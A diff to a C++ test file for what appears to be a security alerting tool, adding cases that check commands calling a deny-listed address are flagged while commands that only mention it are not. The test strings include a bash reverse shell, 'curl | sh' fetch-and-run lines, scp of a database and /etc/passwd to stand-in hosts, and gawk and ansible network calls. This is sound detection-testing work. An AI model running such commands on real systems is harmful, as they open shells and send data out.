@@ -429,7 +429,21 @@ TEST(Listed, a_denied_address_in_a_command_is_told_but_not_where_it_is_only_spok
        {"curl -T x http://198.51.100.99/", "wget -q http://198.51.100.99:8080/x.sh", "ssh 198.51.100.99",
         "scp db.sql root@198.51.100.99:/tmp", "bash -c 'curl -s 198.51.100.99 | sh'", "nc 198.51.100.99. 80",
         "bash -i >& /dev/tcp/198.51.100.99/443 0>&1", "echo x > /dev/tcp/198.51.100.99/443",
-        "curl http://[2001:db8:bad::7]:443/", "env X=1 nice curl 198.51.100.99"}) {
+        "curl http://[2001:db8:bad::7]:443/", "env X=1 nice curl 198.51.100.99",
+        // asked, and not asked about
+        "dig @198.51.100.99 example.org txt", "nslookup example.org 198.51.100.99", "host -t txt x.org 198.51.100.99",
+        "whois -h 198.51.100.99 example.org", "logger -n 198.51.100.99 -P 514 x", "logger --server=198.51.100.99 x",
+        "vim scp://root@198.51.100.99//etc/passwd", "curl sftp://198.51.100.99/x", "git clone ssh://198.51.100.99/x",
+        "git -C /srv push git@198.51.100.99:x.git",
+        "gawk 'BEGIN { s = \"/inet/tcp/0/198.51.100.99/443\"; print 1 |& s }'",
+        // behind other commands
+        "timeout -k 5 30 dig @198.51.100.99 x", "nohup nc 198.51.100.99 443", "xargs -n 1 curl -T - 198.51.100.99",
+        "echo 198.51.100.99 | xargs ping -c 1", "echo 'curl 198.51.100.99' | bash",
+        "docker exec -it web curl 198.51.100.99", "kubectl exec -n x pod-1 -c app -- wget 198.51.100.99/x",
+        "ssh -p 22 10.0.0.5 curl 198.51.100.99", "ssh -J 198.51.100.99 10.0.0.5 uptime",
+        "ip netns exec blue curl 198.51.100.99", "ansible all -m shell -a 'curl 198.51.100.99'",
+        "ansible all -m get_url -a 'url=http://198.51.100.99/x dest=/tmp/x'", "su - lin -c 'curl 198.51.100.99'",
+        "http_proxy=http://198.51.100.99:3128 curl x.org"}) {
     auto alerts = told(lists, {sudo(kNow, "lin", line)});
     ASSERT_EQ(of_rule(alerts, "list.denied").size(), 1u) << line;
     EXPECT_EQ(of_rule(alerts, "list.denied")[0]->severity, Severity::high);
@@ -437,10 +451,31 @@ TEST(Listed, a_denied_address_in_a_command_is_told_but_not_where_it_is_only_spok
   EXPECT_EQ(reasons(told(lists, {sudo(kNow, "lin", "curl 198.51.100.99")}), "list.denied"),
             (Reasons{"lin ran a command that calls address 198.51.100.99, which is on the list of denied addresses, on "
                      "web-01: curl 198.51.100.99"}));
-  for (auto line : {"iptables -A INPUT -s 198.51.100.99 -j DROP", "grep 198.51.100.99 /var/log/auth.log",
-                    "bash -c 'ipset add bad 198.51.100.99'", "whois 198.51.100.99", "curl http://192.0.2.1/",
-                    "curl http://1198.51.100.99/", "pip install x198.51.100.99", "curl https://198.51.100.example/",
-                    "nice nft add element inet f bad { 198.51.100.99 }"})
+  for (auto line : {"iptables -A INPUT -s 198.51.100.99 -j DROP",
+                    "grep 198.51.100.99 /var/log/auth.log",
+                    "bash -c 'ipset add bad 198.51.100.99'",
+                    "whois 198.51.100.99",
+                    "curl http://192.0.2.1/",
+                    "curl http://1198.51.100.99/",
+                    "pip install x198.51.100.99",
+                    "curl https://198.51.100.example/",
+                    "nice nft add element inet f bad { 198.51.100.99 }",
+                    "dig -x 198.51.100.99 @10.0.0.1",
+                    "nslookup 198.51.100.99",
+                    "host -t ptr 198.51.100.99",
+                    "logger blocked 198.51.100.99",
+                    "vim notes-198.51.100.99",
+                    "git commit -m 'push out 198.51.100.99'",
+                    "git grep 198.51.100.99",
+                    "timeout 5 grep 198.51.100.99 /var/log/x",
+                    "LC_ALL=C grep 198.51.100.99 /var/log/x",
+                    "xargs grep 198.51.100.99",
+                    "echo 198.51.100.99 | xargs ipset add bad",
+                    "docker exec web grep 198.51.100.99 /x",
+                    "kubectl exec pod-1 -- grep 198.51.100.99 /x",
+                    "ssh 10.0.0.5 'grep 198.51.100.99 /var/log/x'",
+                    "ansible all -a 'grep 198.51.100.99 /x'",
+                    "ip route add blackhole 198.51.100.99"})
     EXPECT_TRUE(told(lists, {sudo(kNow, "lin", line)}).empty()) << line;
 }
 
